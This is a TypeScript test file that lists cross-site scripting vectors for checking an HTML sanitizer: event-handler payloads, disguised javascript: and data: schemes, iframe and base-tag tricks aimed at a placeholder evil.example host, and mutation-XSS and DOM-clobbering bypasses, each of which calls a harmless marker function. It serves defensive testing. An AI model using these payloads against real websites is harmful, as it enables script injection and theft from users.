/** Known attacks on sanitizers, from OWASP, DOMPurify and published bypasses. `CALL` stands for the code that would run. */

const handlers = [
  '<img src=x onerror=CALL>',
  '<img/src=x/onerror=CALL>',
  "<img src='x' onerror='CALL'",
  '<img src="x`y" onerror=CALL>',
  '<img src=x alt="`<`" title="`>" onerror=CALL>',
  '<svg onload=CALL>',
  '<svg><animate onbegin=CALL attributeName=x dur=1s>',
  '<iframe src=x onload=CALL></iframe>',
  '<details open ontoggle=CALL>x</details>',
  '<video poster=x onloadstart=CALL src=x></video>',
  '<xss onpointerrawupdate=CALL autofocus tabindex=1 onfocus=CALL>x</xss>',
]

const scripts = [
  '<script>CALL</script>',
  '<SCRIPT>CALL</SCRIPT>',
  '<scr<script>ipt>CALL</scr</script>ipt>',
  '<script\n>CALL</script\n>',
  '<script>CALL',
  '</script><script>CALL</script>',
  '<svg><![CDATA[><script>CALL</script>]]></svg>',
  '<div><template shadowrootmode="open"><img src=x onerror=CALL></template></div>',
  '\u0000<script>CALL</script>',
  '&lt;script&gt;CALL&lt;/script&gt;',
]

/** Disguises of the scheme `javascript:`; what is HTML-escaped here is so in the vector. */
const schemes = [
  'javascript:CALL',
  'JaVaScRiPt:CALL',
  'j&Tab;a&Tab;v&Tab;a&Tab;s&Tab;c&Tab;r&Tab;i&Tab;p&Tab;t&colon;CALL',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;CALL',
  '\u2028javascript:CALL',
  '\u0001java\u0003script:CALL',
  'javascript://https://www.youtube.com/embed/aaaaaaaaaaa%0aCALL',
  'data:text/html,<script>CALL</script>',
  'data:text/html;base64,PHNjcmlwdD50b3AuZXhlY3V0ZWQoMSk8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22CALL%22/>',
]

const addresses = [
  '<a href="URL">x</a>',
  '<iframe src="URL"></iframe>',
  '<img src="URL">',
  '<form action="URL"><input type=submit></form>',
]

const places = [
  '<iframe srcdoc="<script>parent.CALL</script>"></iframe>',
  '<iframe src="//evil.example/x.html"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/embed/aaaaaaaaaaa"></iframe>',
  '<iframe src="https://www.youtube.com/embed/aaaaaaaaaaa&quot;onload=&quot;CALL"></iframe>',
  '<iframe title="&quot; onload=CALL x=&quot;" src="https://player.vimeo.com/video/1"></iframe>',
  '<oembed url="javascript:CALL"></oembed>',
  '<a href="javascript:CALL" target=_self ping="javascript:CALL" download=x>x</a>',
  '<svg><a xlink:href="javascript:CALL"><text y=20>x</text></a></svg>',
  '<svg><a><animate attributeName=href values="javascript:CALL" /><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>CALL</script></svg>#x"></use></svg>',
  '<meta http-equiv=refresh content="0;url=javascript:CALL">',
  '<base href="javascript:CALL//"><a href="/. /,CALL//#">x</a>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">CALL</x:script>',
  '<!DOCTYPE x [<!ENTITY e "<script>CALL</script>">]>&e;',
  '<a href="//evil.example" rel=opener target=_blank>x</a>',
]

const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=CALL>"></noscript>',
  '<noscript><style></noscript><img src=x onerror=CALL></style></noscript>',
  '<style><img src="</style><img src=x onerror=CALL//">',
  '<xmp><svg><b><template><b title="</xmp><img src=x onerror=CALL>">',
  '<plaintext><img src=x onerror=CALL>',
  '<!--<img src="--><img src=x onerror=CALL//">',
  '<!-- --!><img src=x onerror=CALL>-->',
  '<svg><style>/*</style><img src=x onerror=CALL>*/</style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=CALL>">',
  '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=CALL//"></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=CALL&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=CALL>',
  '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=CALL>">',
  '<table><style><tr><td title="</style><img src=x onerror=CALL>">',
  '<img title="`><img src=x onerror=CALL>`" src=x>',
  '<video src="x&quot; onerror=CALL x=&quot;"></video>',
  '<img src=x id=body name=body><form name=cookie><input name=attributes><img src=x onerror=CALL></form>',
  '<a id=location href="javascript:CALL">x</a><a id=location name=href href="javascript:CALL">x</a>',
  '<p/id=x/onfocus=CALL/autofocus/tabindex=1>x',
  "<p x='>\"' onfocus=CALL autofocus tabindex=1>x</p>",
  `${'<div>'.repeat(512)}<svg><style><img title="</style><img src=x onerror=CALL>"></style></svg>`,
  `${'<form><div>'.repeat(60)}<math><mtext><table><mglyph><style><img title="</style><img src=x onerror=CALL>">`,
  `${'<b'.repeat(100)}><img src=x onerror=CALL>`,
  '<x><base href="//evil.example/"><script src=x.js></script></x>',
  '<div oncontentvisibilityautostatechange=CALL style=display:block;content-visibility:auto>x</div>',
]

export const vectors: readonly string[] = [
  ...handlers,
  ...scripts,
  ...addresses.flatMap((address) => schemes.map((scheme) => address.replace('URL', () => scheme))),
  ...places,
  ...mutations,
].map((vector, at) => vector.replaceAll('CALL', () => `top.executed(${at})`))
